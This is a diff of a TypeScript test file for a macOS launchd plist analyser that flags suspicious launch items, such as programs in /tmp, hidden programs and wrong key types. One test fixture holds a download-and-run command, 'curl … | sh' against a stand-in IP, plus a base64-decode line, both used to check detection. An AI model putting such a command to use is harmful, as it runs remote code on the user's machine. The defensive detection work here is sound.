@@ -43,9 +43,51 @@ test.each<[string, Record<string, PlistValue>, boolean | undefined]>([
   expect(item(given).fields.keep_alive).toBe(expected);
 });
 
-test('wrong types are left out', () => {
-  const { fields } = item({ Program: 7, ProgramArguments: 'sh', RunAtLoad: 'yes', UserName: ['root'] });
+test('wrong types are left out, and noted', () => {
+  const { fields, findings } = item({
+    Program: 7,
+    ProgramArguments: 8,
+    RunAtLoad: 'yes',
+    UserName: ['root'],
+  });
   expect(Object.keys(fields).sort()).toEqual(['json', 'label']);
+  expect(findings).toEqual(['wrong-type', 'no-program']);
+});
+
+test('a program that is written as a list, and arguments that are a text', () => {
+  const { fields, findings } = item({ Program: ['/tmp/a'], ProgramArguments: 'b' });
+  expect(fields).toMatchObject({ program: '/tmp/a', program_arguments: ['b'], runs: ['/private/tmp/a'] });
+  expect(findings).toEqual(['wrong-type', 'program-in-tmp']);
+});
+
+test("keys in another case, and those that Apple's lists put under a condition", () => {
+  const odd = new Map<string, PlistValue>([
+    ['LABEL', 'com.example'],
+    ['#IfFeatureFlagEnabled', 'A/B'],
+    ['#Then', new Map([['Program', '/usr/local/bin/x']])],
+  ]);
+  expect(launchItem(odd)).toMatchObject({
+    fields: { label: 'com.example', program: '/usr/local/bin/x', runs: ['/usr/local/bin/x'] },
+    findings: ['key-in-other-case'],
+  });
+});
+
+test('of repeated keys all labels and all programs are told', () => {
+  const value = new Map<string, PlistValue>([
+    ['Label', 'b'],
+    ['Program', '/usr/bin/true'],
+  ]);
+  const repeated = new Map<string, PlistValue[]>([
+    ['Label', ['a', 'b']],
+    ['Program', ['/tmp/.x']],
+  ]);
+  const read = launchItem(value, { repeated });
+  expect(read?.fields).toMatchObject({
+    label: 'b',
+    other_labels: ['a'],
+    runs: ['/usr/bin/true', '/private/tmp/.x'],
+  });
+  expect(read?.findings).toEqual(['program-in-tmp', 'hidden-program']);
 });
 
 test('a list of other things than texts', () => {
@@ -99,7 +141,7 @@ describe('findings', () => {
     [
       'a download',
       { Program: '/bin/bash', ProgramArguments: ['bash', '-c', 'curl -s 198.51.100.7 | sh'] },
-      ['interpreter-one-liner', 'network-download'],
+      ['interpreter-one-liner', 'network-download', 'remote-script'],
     ],
     ['something decoded', { ProgramArguments: ['x', 'echo eA== | base64 --decode'] }, ['encoded-command']],
     [
